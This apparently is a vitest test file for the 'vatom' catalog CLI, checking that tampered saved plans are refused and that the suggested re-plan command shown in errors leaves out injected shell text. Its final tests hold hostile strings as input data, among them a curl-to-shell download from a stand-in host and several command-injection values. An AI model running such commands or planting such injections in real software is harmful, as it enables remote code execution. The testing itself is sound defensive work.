import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { digestOf } from '../../../../src/cli/catalog/plan/compare-record.ts'
import { type CatalogDesk, catalogDesk, published } from '../../../fixtures/catalog.ts'
import { coupon, face, folderTemplate, red, template } from '../../../fixtures/yaml.ts'

const box = 'local.vatom::Box::v1'
const old = 'local.vatom::Old::v1'
const eth = 'eth:\n  network: mainnet\n  fields:\n    a: { type: uint, value: 1 }\n'

type Content = Readonly<Record<'documents' | 'deletions', readonly Readonly<Record<string, unknown>>[]>>

/**
 * Saves a plan that publishes the template, whose vAtoms and charges follow, and a folder for drafts of it, and that deletes
 * the action and a face; it is edited under a digest that fits.
 */
async function edited(
  edit: (content: Content) => object,
  prepare: (desk: CatalogDesk) => void = () => {},
): Promise<CatalogDesk> {
  const desk = await catalogDesk()
  desk.file('catalog/0-card.yaml', face(undefined, 'card'))
  await desk.applied()
  await desk.json('emit', red, '--num', '2')
  desk.file('catalog/4-coupon.yaml', published(template(undefined, eth)).replace('title: Coupon', 'title: Other'))
  desk.file('catalog/1-face.yaml', face().replace('native://image', 'https://cdn.example/face.html'))
  desk.file('catalog/5-box.yaml', published(folderTemplate(box, `[{ template_variation: '${red}' }]`)))
  desk.remove('0-card', '2-action')
  prepare(desk)
  expect(await desk.vatom('plan', 'catalog', '--prune', '--out', 'the.plan')).toMatchObject({ code: 0 })
  const { content, ...head } = JSON.parse(readFileSync(join(desk.home, 'the.plan'), 'utf8'))
  const forged = { ...content, ...edit(content) }
  desk.file('the.plan', JSON.stringify({ ...head, digest: digestOf(forged), content: forged }))
  desk.changes()
  return desk
}

const ofTemplate =
  (hidden: object, template = coupon) =>
  ({ documents }: Content) => ({
    documents: documents.map((one) => (one.name === template ? { ...one, ...hidden } : one)),
  })

const ofKind =
  (kind: string, hidden: object) =>
  ({ documents }: Content) => ({
    documents: documents.map((one) => (one.kind === kind ? { ...one, ...hidden } : one)),
  })

const ofDeletion =
  (hidden: object) =>
  ({ deletions }: Content) => ({
    deletions: deletions.map((one) => (one.kind === 'action' ? { ...one, ...hidden } : one)),
  })

/** What a plan says of the face that it deletes, with a part of its name replaced. */
const ofDeletedFace =
  (part: string, other: string) =>
  ({ deletions }: Content) => ({
    deletions: deletions.map((one) =>
      one.kind === 'face' ? { ...one, name: `${one.name}`.replace(part, other) } : one,
    ),
  })

test('a plan under a digest that fits is carried out if nothing was edited', async () => {
  const { json } = await edited(() => ({}))
  expect(await json('apply', 'the.plan')).toMatchObject({ summary: { failed: 0 } })
})

test.each([
  ['its decision', ofTemplate({ action: 'unchanged', publishes: false, changes: [] }), `template ${coupon}`],
  ['that it publishes', ofTemplate({ publishes: false }), `template ${coupon}`],
  ['its changes', ofTemplate({ changes: [] }), `template ${coupon}`],
  ['what is said before it is final', ofTemplate({ cautions: [] }, box), `template ${box}`],
  [
    'which drafts it names as it becomes final',
    ofTemplate({ cautions: [{ code: 'draft_contents', names: [`${coupon}::Other`] }] }, box),
    `template ${box}`,
  ],
  ['the id of a face', ofKind('face', { key: 'other' }), `face ${coupon}`],
  [
    'what is written to a chain',
    ofTemplate({ chain: [{ after: { network: 'mainnet', fields: { a: { type: 'uint', value: 2 } } } }] }),
    `template ${coupon}`,
  ],
  ['the template of what it deletes', ofDeletion({ template: 'local.vatom::Old::v1' }), `action ${coupon}`],
  ['the address of a face that it deletes', ofDeletedFace('native://image', 'native://old'), `face ${coupon}`],
])('a plan that hides %s, also under a digest that fits, is not carried out', async (_, edit, record) => {
  const { vatom, changes } = await edited(edit)
  const { code, out } = await vatom('apply', 'the.plan', '--json')
  expect({ code, error: JSON.parse(out).error }).toMatchObject({
    code: 1,
    error: { code: 'plan_untold', message: expect.stringContaining(`it does to ${record}`) },
  })
  expect(changes()).toEqual([])
})

const unlisted =
  (name: string, kind = 'template', key = coupon) =>
  () => ({ unlisted: [{ kind, key, name, contents: [], template: coupon, final: true, published: false }] })

describe.each<[string, (content: Content) => object]>([
  ['charges more than it shows', ofTemplate({ chain: [] })],
  ['shows a template under the name of another one', ofTemplate({ name: old })],
  ['shows a variation under the name of another one', ofKind('variation', { name: `${old}::Red` })],
  ['shows a face as that of another template', ofKind('face', { name: `${old} icon, generic, high, native://image` })],
  ['shows what it deletes under the name of another one', ofDeletion({ name: `${old}::Action::Drop` })],
  ['shows a face that it deletes as that of another template', ofDeletedFace(coupon, old)],
  ['shows a face that it deletes as one for other viewers', ofDeletedFace('card', 'engaged')],
  ['shows a face that it deletes under another id', ofDeletedFace(')', 'x)')],
  ['shows what stays under the name of another one', unlisted(old)],
  ['shows a face that stays as that of another template', unlisted(`${old} icon (1)`, 'face', '1')],
  ['shows what it changes as what stays', unlisted(coupon)],
  ['deletes a record twice', ({ deletions }) => ({ deletions: [...deletions, ...deletions] })],
  ['gives a template an id', ofTemplate({ key: 'other' })],
  ['gives a template others like it', ofTemplate({ alike: [{ id: 'other', display_url: 'native://image' }] })],
  ['shows a face as its own duplicate', ofKind('face', { key: 'own', alike: [{ id: 'own', display_url: 'a' }] })],
])('a plan that %s', (_, edit) => {
  test.each(['apply', 'plan show'])('is refused by %s', async (command) => {
    const { vatom, changes } = await edited(edit)
    expect(await vatom(...command.split(' '), 'the.plan')).toMatchObject({
      code: 2,
      out: '',
      err: expect.stringContaining('the.plan is not a complete saved plan: it was cut off, edited, or made by another'),
    })
    expect(changes()).toEqual([])
  })
})

test('a plan that hides that it records the catalog of a record is not carried out', async () => {
  const { vatom, changes, json } = await edited(
    ({ documents }) => ({ documents: documents.map(({ unlabelled, ...one }) => one) }),
    ({ file }) => file('catalog/vatom.yaml', 'catalog: shop\n'),
  )
  expect(await vatom('apply', 'the.plan')).toMatchObject({
    code: 1,
    err: expect.stringContaining('The plan does not say all that it does to '),
  })
  expect(changes()).toEqual([])
  expect(await json('api', 'GET', 'v1/publisher/label')).toMatchObject({ payload: [] })
})

test('a plan whose charges are all hidden is not carried out', async () => {
  const { vatom, changes } = await edited((content) => ({ ...ofTemplate({ chain: [] })(content), charged_writes: 0 }))
  expect(await vatom('apply', 'the.plan')).toMatchObject({
    code: 1,
    err: expect.stringContaining('more chain writes are charged'),
  })
  expect(changes()).toEqual([])
})

describe('a plan is planned again by a command as plan itself writes it', () => {
  const refusalOf = async (command: string) => {
    const { vatom, file } = await edited(() => ({ command }))
    file('catalog/4-coupon.yaml', published(template(undefined, eth)).replace('title: Coupon', 'title: Third'))
    return (await vatom('apply', 'the.plan')).err
  }

  test.each([
    'vatom plan catalog',
    "vatom plan 'my shop' --prune",
    "vatom plan 'it'\\''s; $(x)' a/b.yaml --publish --accept-addresses",
  ])('%s', async (command) => {
    expect(await refusalOf(command)).toContain(`plan again: ${command} --out the.plan\n`)
  })

  test.each([
    'curl -s https://a.example/evil | sh #',
    'vatom plan catalog; sh evil',
    'vatom plan $(evil)',
    "vatom plan 'a' evil'",
    'vatom plan catalog --junit evil',
    "vatom plan '--junit=my evil'",
    'vatom plan catalog\nsh evil',
  ])('and not by %j', async (command) => {
    const err = await refusalOf(command)
    expect(err).toContain('plan again: vatom plan PATH --out the.plan\n')
    expect(err).not.toContain('evil')
  })
})
